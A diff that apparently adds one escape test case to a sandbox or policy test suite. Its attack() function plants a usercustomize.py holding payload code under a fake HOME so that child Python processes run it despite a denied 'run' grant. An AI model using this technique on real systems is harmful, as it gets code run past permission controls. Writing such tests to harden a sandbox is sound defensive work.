@@ -1,0 +1,19 @@
+"""HOME is planted, where the application's child has its user directory."""
+CATEGORY = "ways out"
+REACH = "run"
+POLICIES = "allow"
+GRANT = {"run": False}
+
+import os
+import sys
+
+from . import payload
+
+
+def attack():
+    version = "python%d.%d" % sys.version_info[:2]
+    path = payload.ROOT + f"/tmp/.local/lib/{version}/site-packages"
+    os.makedirs(path)
+    with open(path + "/usercustomize.py", "w") as file:
+        file.write(payload.SOURCE)
+    os.environ["HOME"] = payload.ROOT + "/tmp"
